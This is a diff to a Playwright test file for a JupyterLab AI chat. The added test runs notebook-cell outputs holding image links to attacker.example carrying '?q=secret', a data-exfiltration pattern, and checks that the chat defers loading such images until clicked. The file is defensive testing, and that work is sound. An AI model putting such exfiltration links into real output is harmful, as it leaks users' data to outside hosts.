@@ -2,7 +2,7 @@ import type { IJupyterLabPageFixture } from '@jupyterlab/galata';
 import type { Locator } from '@playwright/test';
 
 import { expect, test } from './fixtures';
-import { chat, reloadLab } from './utils';
+import { chat, reloadLab, runCell, unmockedKernels } from './utils';
 
 /** A 1x1 PNG, for the data: image and for the image loaded on request. */
 const PNG_BASE64 =
@@ -134,4 +134,64 @@ test('the model cannot make the chat load anything from another site', async ({
       exact: true
     })
   ).toHaveCount(2);
+});
+
+test.describe("outputs of the assistant's cells", () => {
+  test.use(unmockedKernels);
+
+  test("images in a step's HTML and markdown outputs load nothing until clicked", async ({
+    page,
+    ci
+  }) => {
+    // The notebook itself renders the cell's (trusted) outputs as Lab always
+    // does; what is checked here is the chat's step card.
+    await page.route('https://attacker.example/**', route =>
+      route.fulfill({
+        contentType: 'image/png',
+        body: Buffer.from(PNG_BASE64, 'base64')
+      })
+    );
+    const code = [
+      'from IPython.display import HTML, Markdown, display',
+      'display(HTML(\'<p>chart</p><img src="https://attacker.example/out.png?q=secret" alt="html-out">\'))',
+      "display(Markdown('![md-out](https://attacker.example/md-out.png?q=secret)'))",
+      `display(HTML('<img src="data:image/png;base64,${PNG_BASE64}" alt="inline">'))`
+    ].join('\n');
+    const { steps } = await ci.start('remote-outputs.ipynb', [
+      runCell(code),
+      { text: 'Shown.' }
+    ]);
+    await ci.askUntilDone('Show the pictures.');
+
+    const expectDeferred = async () => {
+      const card = chat(page).steps.first();
+      await expectLoaded(card.getByRole('img', { name: 'inline' }));
+      await expect(
+        card.getByRole('button', {
+          name: 'Load image from attacker.example',
+          exact: true
+        })
+      ).toHaveCount(2);
+      await expect(card.locator('img[src*="attacker.example"]')).toHaveCount(0);
+    };
+    await expectDeferred();
+    await expect(steps.first()).toContainText('chart');
+
+    // Restored from history after a reload, the same (once the panel's own
+    // save at the end of the request is done: see history.spec.ts).
+    await expect(
+      page.locator('.lm-DockPanel-tabBar .lm-TabBar-tab.jp-mod-dirty')
+    ).toHaveCount(0);
+    await reloadLab(page, 'remote-outputs.ipynb');
+    await expectDeferred();
+
+    // A click loads that image, and only that one.
+    const card = chat(page).steps.first();
+    await card
+      .getByRole('button', { name: 'Load image from attacker.example' })
+      .first()
+      .click();
+    await expectLoaded(card.getByRole('img', { name: 'html-out' }));
+    await expect(card.locator('img[src*="attacker.example"]')).toHaveCount(1);
+  });
 });
